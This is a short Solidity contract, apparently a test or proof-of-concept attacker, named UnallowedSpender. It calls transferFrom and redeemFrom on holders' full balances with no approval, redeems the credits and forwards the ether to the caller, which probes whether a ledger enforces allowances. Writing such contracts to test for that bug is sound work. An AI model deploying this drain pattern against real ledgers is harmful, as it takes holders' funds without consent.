// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface ILedger {
    function balanceOf(address account) external view returns (uint256);

    function transferFrom(address from, address to, uint256 value) external returns (bool);

    function redeem(uint256 credits) external;

    function redeemFrom(address holder, uint256 credits) external;
}

/// Takes credits nobody allowed it to take.
contract UnallowedSpender {
    function run(ILedger ledger, address[] calldata holders) external {
        for (uint256 i = 0; i < holders.length; i++)
            ledger.transferFrom(holders[i], address(this), ledger.balanceOf(holders[i]));
        ledger.redeem(ledger.balanceOf(address(this)));
        payable(msg.sender).transfer(address(this).balance);
    }

    function runByRedemption(ILedger ledger, address[] calldata holders) external {
        for (uint256 i = 0; i < holders.length; i++) ledger.redeemFrom(holders[i], ledger.balanceOf(holders[i]));
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {}
}
